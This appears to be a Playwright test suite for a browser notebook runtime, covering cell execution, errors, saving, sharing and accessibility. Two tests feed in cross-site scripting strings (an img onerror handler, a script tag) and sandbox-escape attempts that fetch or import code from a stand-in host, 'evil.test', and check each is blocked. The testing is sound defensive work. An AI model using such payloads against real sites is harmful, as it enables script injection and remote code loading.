import { test, expect, type Locator, type Page } from '@playwright/test';
import AxeBuilder from '@axe-core/playwright';
import { replaceCode } from './support/cells-ui.ts';

// The notebook runtime on the showcase page (src/pages/how-to-use.mdx), whose cells are ours.
const PAGE = 'how-to-use/';

const cellOf = (page: Page, id: string) => page.locator(`[data-cell="${id}"]`);
const button = (cell: Locator, name: string) => cell.getByRole('button', { name, exact: true });
const output = (cell: Locator) => cell.locator('[data-output]');

async function runAndWait(cell: Locator, runs: number): Promise<void> {
  await button(cell, 'Run').click();
  await expect(cell).toHaveAttribute('data-runs', String(runs));
}

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });
  test('code and prerendered outputs are on the page', async ({ page }) => {
    await page.goto(PAGE);
    const hello = cellOf(page, 'hello');
    await expect(hello.locator('pre').first()).toContainText('steps.reduce');
    await expect(output(hello)).toHaveText('3.75');
    await expect(output(cellOf(page, 'figure')).locator('svg')).toHaveCount(1);
    await expect(output(cellOf(page, 'slow'))).toContainText('was not run when the page was built');
  });
});

test('Run shows the value of the last expression', async ({ page }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await expect(hello).toHaveAttribute('data-state', 'done');
  await runAndWait(hello, 1);
  await expect(hello).toHaveAttribute('data-state', 'done');
  await expect(output(hello)).toHaveText('3.75');
});

test('editing and running changes the figure', async ({ page }) => {
  await page.goto(PAGE);
  const figure = cellOf(page, 'figure');
  const line = output(figure).locator('svg [aria-label="line"] path');
  const before = await line.getAttribute('d');
  await replaceCode(
    page,
    figure,
    `const xs = [0, 1, 2, 3];\nPlot.plot({ marks: [Plot.lineY(xs.map((v) => v * v))] })`,
  );
  await expect(figure.getByText('Edited', { exact: true })).toBeVisible();
  await expect(figure).toHaveAttribute('data-state', 'stale');
  await button(figure, 'Run').click();
  await expect(figure).toHaveAttribute('data-state', 'done');
  const after = await line.getAttribute('d');
  expect(after).toBeTruthy();
  expect(after).not.toEqual(before);
});

test('running a later cell runs the cells it depends on first', async ({ page }) => {
  await page.goto(PAGE);
  const scope = cellOf(page, 'scope');
  await runAndWait(scope, 1);
  await expect(cellOf(page, 'setup')).toHaveAttribute('data-runs', '1');
  await expect(cellOf(page, 'hello')).toHaveAttribute('data-runs', '1');
  await expect(output(scope)).toContainText('after 25 steps');
});

test('Stop ends an endless loop; the page stays responsive and the next run works', async ({
  page,
}) => {
  await page.goto(PAGE);
  const endless = cellOf(page, 'endless');
  await button(endless, 'Run').click();
  await expect(endless).toHaveAttribute('data-state', 'running');
  // The page answers clicks while the loop spins in the worker.
  const summary = cellOf(page, 'setup').locator('summary');
  await summary.click();
  await expect(cellOf(page, 'setup').locator('details')).toHaveAttribute('open', '');
  const started = Date.now();
  expect(await page.evaluate(() => 21 * 2)).toBe(42);
  expect(Date.now() - started).toBeLessThan(1000);
  await button(endless, 'Stop').click();
  await expect(endless).toHaveAttribute('data-state', 'error');
  await expect(output(endless)).toContainText('You stopped this run');
  const hello = cellOf(page, 'hello');
  await runAndWait(hello, 1);
  await expect(output(hello)).toHaveText('3.75');
});

test('a runaway cell is stopped at its time limit', async ({ page }) => {
  await page.goto(PAGE);
  const endless = cellOf(page, 'endless'); // timeout=3
  await button(endless, 'Run').click();
  await expect(output(endless)).toContainText('time limit of 3 s', { timeout: 20_000 });
  await expect(endless).toHaveAttribute('data-state', 'error');
});

test('a syntax error points at its line and column and marks the line', async ({ page }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await replaceCode(page, hello, 'const a = 1;\nconst b = (a + ;\nb');
  await button(hello, 'Run').click();
  await expect(hello).toHaveAttribute('data-state', 'error');
  await expect(output(hello)).toContainText('SyntaxError');
  await expect(output(hello)).toContainText(/line 2, column \d+/);
  await expect(hello.locator('.cm-error-line')).toHaveCount(1);
  await expect(hello.locator('.cm-error-line')).toContainText('const b');
});

test('a runtime error shows its message and the cell line', async ({ page }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await replaceCode(page, hello, 'const a = 1;\nconst b: any = null;\nb.foo');
  await button(hello, 'Run').click();
  await expect(output(hello)).toContainText('TypeError');
  await expect(output(hello)).toContainText("reading 'foo'");
  await expect(output(hello)).toContainText('line 3');
  await expect(hello.locator('.cm-error-line')).toContainText('b.foo');
});

test('engine errors read as the engine wrote them, prerendered and in the browser', async ({
  page,
}) => {
  await page.goto(PAGE);
  const cell = cellOf(page, 'shape-error');
  await expect(output(cell)).toContainText('ShapeError: matmul');
  await expect(cell.locator('.cell-error-line')).toContainText('w.matmul(v)');
  await runAndWait(cell, 1);
  await expect(output(cell)).toContainText('ShapeError: matmul');
  await expect(output(cell)).toContainText('line 3');
});

test('NaN and Infinity get a warning', async ({ page }) => {
  await page.goto(PAGE);
  const cell = cellOf(page, 'nan');
  await runAndWait(cell, 1);
  await expect(output(cell).getByRole('note')).toContainText('NaN');
});

test('edits survive a reload; Reset restores the original', async ({ page }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await replaceCode(page, hello, 'const total = 41;\ntotal + 1');
  await page.waitForTimeout(600); // autosave runs shortly after typing stops
  await page.reload();
  await expect(hello.locator('[data-code]')).toContainText('const total = 41;');
  await expect(hello.getByText('Edited', { exact: true })).toBeVisible();
  await expect(hello).toHaveAttribute('data-state', 'stale');
  await runAndWait(hello, 1);
  await expect(output(hello)).toHaveText('42');
  await button(hello, 'Reset').click();
  await expect(hello.locator('[data-code]')).toContainText('steps.reduce');
  await expect(button(hello, 'Reset')).toBeHidden();
  await page.reload();
  await expect(hello.locator('[data-code]')).toContainText('steps.reduce');
  await expect(hello.getByText('Edited', { exact: true })).toBeHidden();
});

test('an edit of code the author has since changed is flagged, with both versions', async ({
  page,
}) => {
  await page.goto(PAGE);
  await page.evaluate(() => {
    const key = `descent:cell:${location.pathname.replace(/\/+$/, '')}#hello`;
    localStorage.setItem(
      key,
      JSON.stringify({ code: 'old edit\n1', original: 'not-the-hash', savedAt: 1 }),
    );
  });
  await page.reload();
  const hello = cellOf(page, 'hello');
  await expect(hello).toContainText('The author has changed this cell since you edited it');
  await expect(hello.locator('[data-code]')).toContainText('steps.reduce');
  await button(hello, 'Use my edit').click();
  await expect(hello.locator('[data-code]')).toContainText('old edit');
});

test('storage that fails never breaks a cell', async ({ page }) => {
  await page.addInitScript(() => {
    Storage.prototype.setItem = () => {
      throw new DOMException('full', 'QuotaExceededError');
    };
  });
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await replaceCode(page, hello, '6 * 7');
  await runAndWait(hello, 1);
  await expect(output(hello)).toHaveText('42');
  await expect(hello).toContainText('Your edits are not saved');
});

test('a share link shows the code but never runs it until Run', async ({ page, context }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await replaceCode(page, hello, '"shared " + (20 + 22)');
  await button(hello, 'Copy link').click();
  const link = hello.getByRole('textbox', { name: 'Link to this cell’s code' });
  const url = await link.inputValue();
  expect(url).toContain('#cell=hello&code=');

  const other = await context.newPage();
  await other.goto(url);
  const shared = cellOf(other, 'hello');
  await expect(shared.locator('[data-code]')).toContainText('"shared " + (20 + 22)');
  await expect(shared).toContainText('code from a shared link');
  await other.waitForTimeout(1000);
  await expect(shared).toHaveAttribute('data-runs', '0');
  await expect(output(shared)).toHaveText('3.75'); // still the book's prerendered output
  await runAndWait(shared, 1);
  await expect(output(shared)).toHaveText('shared 42');
});

test('strings from cells are text, never HTML', async ({ page }) => {
  await page.goto(PAGE);
  const cell = cellOf(page, 'html-text');
  await expect(output(cell)).toHaveText('<b>This is not bold</b>');
  await expect(output(cell).locator('b')).toHaveCount(0);
  await replaceCode(
    page,
    cell,
    `show('<img src=x onerror="window.__owned = 1">');\nconsole.log('<script>window.__owned = 2</script>');\n'<i>x</i>'`,
  );
  await runAndWait(cell, 1);
  await expect(output(cell)).toContainText('<img src=x');
  await expect(output(cell).locator('img, script, i')).toHaveCount(0);
  expect(await page.evaluate(() => (window as { __owned?: number }).__owned)).toBeUndefined();
});

test('the sandbox refuses every way out to the network, and the book’s data still loads', async ({
  page,
  context,
}) => {
  // If anything got through, this fake remote host would answer (the machine has no network):
  // the test fails if it is ever asked.
  const asked: string[] = [];
  await context.route(/evil\.test/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.owned = 1;' });
  });
  await page.goto(PAGE);
  const cell = cellOf(page, 'hello');
  const attempts: [string, RegExp][] = [
    ["await fetch('https://evil.test/data')", /sealed off from the network: https:\/\/evil\.test/],
    ['new XMLHttpRequest()', /XMLHttpRequest is refused/],
    ["new WebSocket('wss://evil.test/socket')", /WebSocket is refused/],
    ["importScripts('https://evil.test/a.js')", /importScripts is refused/],
    ["await import('https://evil.test/b.js')", /Cells can import only @descent\/engine/],
    ['await eval("import(\'https://evil.test/c.js\')")', /sealed off from the network/],
    [
      'await new Function("return import(\'https://evil.test/d.js\')")()',
      /sealed off from the network/,
    ],
  ];
  let runs = 0;
  for (const [code, refusal] of attempts) {
    await replaceCode(page, cell, code);
    await runAndWait(cell, ++runs);
    await expect(output(cell), code).toContainText(refusal);
  }
  expect(asked).toEqual([]);
  await replaceCode(page, cell, 'typeof globalThis.owned');
  await runAndWait(cell, ++runs);
  await expect(output(cell)).toHaveText('undefined');
  // The book's own data files stay readable.
  await replaceCode(
    page,
    cell,
    'const d = await loadDigits({ trainCount: 20, testCount: 5 });\nd.trainX.shape',
  );
  await runAndWait(cell, runs + 1);
  await expect(output(cell)).toContainText('20');
});

test('top-level await and the book’s data files work', async ({ page }) => {
  await page.goto(PAGE);
  const digits = cellOf(page, 'digits');
  const prerendered = await output(digits).innerText();
  await runAndWait(digits, 1);
  await expect(digits).toHaveAttribute('data-state', 'done');
  expect(await output(digits).innerText()).toBe(prerendered);
});

test('progress bars and live figures update while a loop runs', async ({ page }) => {
  await page.goto(PAGE);
  const train = cellOf(page, 'train');
  await runAndWait(train, 1);
  await expect(output(train).locator('svg[viewBox]')).toHaveCount(1); // the plot (and its legend)
  await expect(output(train).locator('progress')).toHaveAttribute('value', '60');
  const slow = cellOf(page, 'slow'); // three seconds, reporting progress as it goes
  await button(slow, 'Run').click();
  await expect(output(slow).locator('progress')).toBeVisible();
  await expect(output(slow)).toContainText('left');
  await expect(output(slow)).toContainText('done after', { timeout: 20_000 });
});

test('Restart marks cells that ran as needing a re-run', async ({ page }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await runAndWait(hello, 1);
  await page.getByRole('button', { name: 'Restart', exact: true }).click();
  await expect(hello).toHaveAttribute('data-state', 'stale');
  await runAndWait(hello, 2);
  await expect(hello).toHaveAttribute('data-state', 'done');
});

test('Run all runs every cell and dispatches descent:cell-run', async ({ page }) => {
  await page.goto(PAGE);
  await page.evaluate(() => {
    const w = window as unknown as { __runs: { id: string; ok: boolean; value: unknown }[] };
    w.__runs = [];
    document.addEventListener('descent:cell-run', (e) => {
      const d = (e as CustomEvent).detail;
      w.__runs.push({ id: d.id, ok: d.ok, value: d.value });
    });
  });
  await page.getByRole('button', { name: 'Run all', exact: true }).click();
  await expect(cellOf(page, 'digits')).toHaveAttribute('data-runs', '1', { timeout: 30_000 });
  const runs = await page.evaluate(
    () => (window as unknown as { __runs: { id: string; ok: boolean; value: unknown }[] }).__runs,
  );
  // Every cell runs once, in page order, except the long ones.
  expect(runs.map((r) => r.id)).toEqual([
    'hello',
    'setup',
    'scope',
    'tensors',
    'table',
    'html-text',
    'figure',
    'train',
    'shape-error',
    'nan',
    'digits',
  ]);
  await expect(cellOf(page, 'slow')).toHaveAttribute('data-runs', '0');
  expect(runs.find((r) => r.id === 'hello')).toEqual({ id: 'hello', ok: true, value: 3.75 });
  expect(runs.find((r) => r.id === 'shape-error')?.ok).toBe(false);
});

test('keyboard only: Tab into a cell, edit, Shift+Enter, Escape', async ({ page }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await page.getByRole('button', { name: 'Run all', exact: true }).focus();
  // Tab until the focus is in the first cell's code: the editor opens and takes the focus.
  for (let i = 0; i < 10; i++) {
    await page.keyboard.press('Tab');
    const inHello = await hello.evaluate((el) => el.contains(document.activeElement));
    if (inHello) break;
  }
  await expect(hello.locator('.cm-content')).toBeFocused();
  await page.keyboard.press('ControlOrMeta+End');
  await page.keyboard.type(' * 2');
  await page.keyboard.press('Shift+Enter');
  await expect(hello).toHaveAttribute('data-runs', '1');
  await expect(output(hello)).toHaveText('7.5');
  // Focus moved on to the next cell (the setup cell, opened).
  const setup = cellOf(page, 'setup');
  await expect(setup.locator('.cm-content')).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(button(setup, 'Run')).toBeFocused();
  await page.keyboard.press('Tab');
  expect(await page.evaluate(() => !!document.activeElement?.closest('.cm-editor'))).toBe(false);
  // Ctrl/Cmd+Enter runs without moving.
  await hello.locator('.cm-content').focus();
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(hello).toHaveAttribute('data-runs', '2');
  await expect(hello.locator('.cm-content')).toBeFocused();
});

for (const scheme of ['light', 'dark'] as const) {
  test(`axe finds no serious problems with an editor open (${scheme})`, async ({ page }) => {
    await page.emulateMedia({ colorScheme: scheme });
    await page.goto(PAGE);
    const hello = cellOf(page, 'hello');
    await hello.locator('[data-code]').click();
    await expect(hello).toHaveAttribute('data-editor', 'ready');
    await runAndWait(hello, 1);
    await cellOf(page, 'shape-error').getByRole('button', { name: 'Run', exact: true }).click();
    await expect(cellOf(page, 'shape-error')).toHaveAttribute('data-runs', '1');
    const results = await new AxeBuilder({ page })
      .withTags(['wcag2a', 'wcag2aa', 'wcag21aa'])
      .analyze();
    const bad = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
    const report = bad
      .map(
        (v) =>
          `${v.id}: ${v.help}\n  ${v.nodes
            .slice(0, 5)
            .map((n) => n.target.join(' '))
            .join('\n  ')}`,
      )
      .join('\n');
    expect(bad, report).toEqual([]);
  });
}

test('an exception thrown later (in a timer) does not take the kernel down', async ({ page }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await replaceCode(
    page,
    hello,
    "setTimeout(() => { throw new Error('later'); }, 10);\n'scheduled'",
  );
  await runAndWait(hello, 1);
  await expect(output(hello)).toHaveText('scheduled');
  await page.waitForTimeout(300);
  const scope = cellOf(page, 'scope');
  await runAndWait(scope, 1);
  await expect(scope).toHaveAttribute('data-state', 'done');
  await expect(hello).not.toHaveAttribute('data-state', 'stale');
});

test('an edit is kept even when the page is left right after typing', async ({ page }) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await replaceCode(page, hello, '"kept"');
  await page.reload(); // no pause: the pending save happens as the page goes away
  await expect(hello.locator('[data-code]')).toContainText('"kept"');
});

test('when the book’s code differs from what an edit was based on, the cell says so', async ({
  page,
}) => {
  await page.goto(PAGE);
  const hello = cellOf(page, 'hello');
  await replaceCode(page, hello, 'total * 3');
  await page.waitForTimeout(600);
  // A new version of the book: the cell's code changed on the server.
  await page.route('**/how-to-use/', async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replaceAll('0.125', '0.375');
    await route.fulfill({ response, body: html });
  });
  await page.reload();
  await expect(hello).toContainText('The author has changed this cell');
  await expect(hello.locator('[data-code]')).toContainText('0.375');
  await hello.getByRole('button', { name: 'Use my edit' }).click();
  await expect(hello.locator('[data-code]')).toContainText('total * 3');
});
